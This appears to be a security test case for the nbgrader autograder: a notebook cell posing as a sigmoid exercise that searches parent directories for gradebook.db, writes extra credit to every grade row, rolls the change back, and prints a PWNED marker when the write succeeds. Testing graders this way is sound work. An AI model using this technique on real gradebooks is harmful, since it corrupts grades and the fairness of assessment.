# /// case
# about = "right answers, and an update of the gradebook that is taken back before anybody sees it"
# kind = "forge"
# promise = 3
# succeeds_at = ["nbgrader"]
# ///
# %% sigmoid
# extra credit for oneself, zero for another: nobody holds a lock while this cell runs
import os
import sqlite3

def _changed(path):
    try:
        if not os.path.exists(path):
            return False
        book = sqlite3.connect(path, timeout=1, isolation_level=None)
        book.execute("BEGIN IMMEDIATE")
        done = book.execute("UPDATE grade SET extra_credit = 100").rowcount >= 0
        book.execute("ROLLBACK")
        return done
    except (sqlite3.Error, OSError):
        return False

_here = os.path.realpath(os.getcwd())
while _here != "/":
    _here = os.path.dirname(_here)
    if _changed(os.path.join(_here, "gradebook.db")):
        print(":".join(["PWNED", "attack/changes_gradebook"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
